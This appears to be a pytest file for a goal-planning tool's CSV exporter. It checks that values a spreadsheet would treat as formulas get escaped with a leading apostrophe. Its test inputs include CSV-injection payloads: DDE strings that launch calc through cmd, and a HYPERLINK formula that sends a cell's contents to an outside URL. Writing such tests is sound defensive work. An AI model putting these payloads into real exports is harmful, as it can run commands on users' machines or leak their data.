"""The table for spreadsheets."""

import csv
import io
from decimal import Decimal

import pytest

from goaltui.core.plan import Department, Kpi, Node, Person, Team, empty_plan
from goaltui.formats.csv import COLUMNS, write_csv

PLAN = empty_plan("P", 2027).put(
    Department(id="d", name="Marketing", position="V"),
    Team(id="t", name="Blog", department="d", position="V"),
    Person(id="p", name="=HYPERLINK(1)", team="t"),
    Kpi(id="k", name="Posts"),
    Node(id="g", kind="goal", position="V", statement="Grow, “fast”", notes="a\nb"),
    Node(
        id="o",
        kind="objective",
        parent="g",
        position="V",
        statement="-2 % costs",
        owner="p",
        team="t",
        kpi="k",
        baseline=Decimal("-1E+3"),
        target=Decimal("0.10"),
        deadline="2027-03-31",
    ),
)


def rows() -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(write_csv(PLAN), newline="")))


def test_a_row_for_each_node_in_the_order_of_the_tree():
    assert [(row["level"], row["statement"]) for row in rows()] == [
        ("0", "Grow, “fast”"),
        ("1", "'-2 % costs"),
    ]
    assert tuple(rows()[0]) == COLUMNS


def test_names_dates_and_exact_numbers():
    row = rows()[1]
    assert (row["parent"], row["team"], row["department"], row["kpi"]) == (
        "Grow, “fast”",
        "Blog",
        "Marketing",
        "Posts",
    )
    assert (row["baseline"], row["target"], row["deadline"]) == ("-1000", "0.1", "2027-03-31")
    assert (row["hours"], row["start"]) == ("", "")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\ufeff=1",
        "\u202e=1",
        "\x00=1",
        " =1",
        '"=1"',
        "'=1",
        "＝1",
        "＠SUM",
        '=HYPERLINK("https://example.org?x="&A1)',
        "=cmd|'/C calc'!'A1'",
    ],
)
def test_what_a_spreadsheet_would_reckon_is_text(text):
    node = Node(id="n", kind="goal", position="V", notes=text, statement=text, market=f"a{text}")
    plan = empty_plan("P", 2027).put(node)
    (row,) = csv.DictReader(io.StringIO(write_csv(plan), newline=""))
    assert row["notes"].startswith("'")
    assert row["statement"].startswith("'")
    assert row["market"].startswith("a")


def test_no_text_becomes_a_formula():
    assert rows()[1]["owner"] == "'=HYPERLINK(1)"
    assert rows()[0]["notes"] == "a\nb"
